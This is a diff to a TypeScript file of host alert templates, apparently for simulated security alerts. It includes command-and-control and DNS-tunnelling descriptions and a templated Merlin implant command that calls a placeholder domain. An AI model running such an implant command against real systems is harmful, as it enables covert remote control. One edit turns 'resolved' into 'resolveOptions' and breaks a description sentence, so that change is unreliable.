@@ -1,6 +1,6 @@
 import type { AlertKind } from '../alert-kind.ts';
 
-/** What happens in the operating system of a machine. */
+/** Alert types about the operating system of a host. */
 export const host = {
   cpu_usage: {
     frequency: 6,
@@ -133,7 +133,7 @@ export const host = {
     titles: ['Command and control channel', 'DNS tunnel to {domain}'],
     descriptions: [
       '{process} calls {ip}:{port} every {count} seconds with a jitter below one percent, as implants do.',
-      '{host} resolved {size} names under {domain} with random labels: data leaves through DNS.',
+      '{host} resolveOptions {size} names under {domain} with random labels: data leaves through DNS.',
     ],
     commands: [
       './merlin-agent -url https://{domain}:{port}',
